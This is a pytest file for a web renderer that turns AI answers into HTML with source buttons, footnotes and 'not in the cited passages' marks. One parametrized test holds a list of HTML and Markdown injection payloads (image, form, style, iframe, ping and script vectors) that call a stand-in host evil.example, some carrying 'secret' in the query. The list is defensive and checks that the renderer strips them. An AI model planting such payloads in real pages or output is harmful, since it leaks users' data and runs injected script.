"""What models and notes wrote is shown, and can do nothing."""

import re

import pytest

from assistant.cite import UNSUPPORTED
from ui.web.render import answer_html, escaped, footnotes, sentence

CITED = [{"n": 1, "path": 'a "quoted".md', "locator": "§ Sharding", "quote": "FSDP shards\n the parameters."}]


def test_a_mark_becomes_a_button_that_names_its_source() -> None:
    assert answer_html("FSDP shards. [1]", CITED) == (
        '<p>FSDP shards.<button type="button" class="chip" data-do="source" data-n="1" '
        'aria-label="Source 1: a &quot;quoted&quot;.md, § Sharding">1</button></p>\n'
    )


def test_a_mark_without_a_source_is_no_button() -> None:
    assert answer_html("It does. [7]", CITED) == '<p>It does.<span class="chip waiting">7</span></p>\n'


def test_a_sentence_without_support_is_marked_in_words() -> None:
    shown = answer_html(f"It flies. {UNSUPPORTED}")
    assert re.fullmatch(
        r'<p>It flies\. <span class="unsupported" title="[^"]+">not in the cited passages</span></p>\n', shown
    )


def test_marks_in_code_stay_code() -> None:
    assert answer_html("`a[1]`\n\n```\nb[1]\n```", CITED) == (
        '<p><code>a[1]</code></p>\n<pre tabindex="0"><code>b[1]\n</code></pre>\n'
    )


def test_tables_and_lists_are_shown() -> None:
    shown = answer_html("| a | b |\n|---|---|\n| 1 [1] | 2 |\n\n- x\n- y", CITED)
    assert "<th>a</th>" in shown
    assert shown.count("<button") == 1
    assert shown.count("<li>") == 2


@pytest.mark.parametrize(
    "attack",
    [
        '<img src="http://evil.example/?q=secret">',
        "![secret](http://evil.example/x.png)",
        "![secret][r]\n\n[r]: http://evil.example/x.png",
        "[press here](http://evil.example/?q=secret)",
        "[press here](javascript:alert(1))",
        "<http://evil.example>",
        '<video poster="http://evil.example/x"></video>',
        '<audio autoplay src="http://evil.example/x"></audio>',
        '<svg><image href="http://evil.example/x"/></svg>',
        '<form action="http://evil.example"><input type="password"></form>',
        '<div style="background:url(http://evil.example/x)">x</div>',
        "<style>body{background:url(http://evil.example)}</style>",
        "<script>alert(1)</script>",
        '<button data-do="note" data-note="x" onclick="alert(1)">y</button>',
        "<iframe src=http://evil.example>",
        '<a href="http://evil.example" ping="http://evil.example">x</a>',
        "| <img srcset='http://evil.example 1x'> |\n|---|\n| x |",
        "```html\n</code></pre><img src=http://evil.example>\n```",
        '# <base href="http://evil.example">',
    ],
)
def test_nothing_that_was_written_loads_sends_or_runs(attack: str) -> None:
    shown = answer_html(attack, CITED)
    tags = set(re.findall(r"<(\w+)", shown))
    assert tags <= set("p br strong em code pre ul ol li blockquote table thead tbody tr th td h1 span".split())
    assert not re.search(r"<[^>]*\b(?:src|href|style|on\w+|poster|action|srcset|ping)\s*=", shown)


def test_a_link_shows_where_it_would_lead() -> None:
    assert answer_html("See [the docs](https://docs.example/a?b=1&c=2).") == (
        "<p>See the docs (https://docs.example/a?b=1&amp;c=2).</p>\n"
    )


def test_what_deceives_the_eye_is_not_shown() -> None:
    assert escaped("pay\u202ePal\u200b <b>") == "payPal &lt;b&gt;"
    assert answer_html("a\u202eb\x1b[31mc") == "<p>abc</p>\n"


def test_a_copy_has_footnotes() -> None:
    assert footnotes("FSDP shards. [1] It is [2] known.", CITED) == (
        'FSDP shards.[^1] It is [2] known.\n\n[^1]: a "quoted".md, § Sharding: “FSDP shards the parameters.”\n'
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("no model answered", "No model answered"),
        (
            "http://127.0.0.1:8000/v1 does not speak the OpenAI protocol",
            "http://127.0.0.1:8000/v1 does not speak the OpenAI protocol",
        ),
        ("see http://127.0.0.1:8000/v1", "See http://127.0.0.1:8000/v1"),
        ("", ""),
    ],
)
def test_a_sentence_begins_with_a_capital_and_an_address_as_it_is(text: str, shown: str) -> None:
    assert sentence(text) == shown
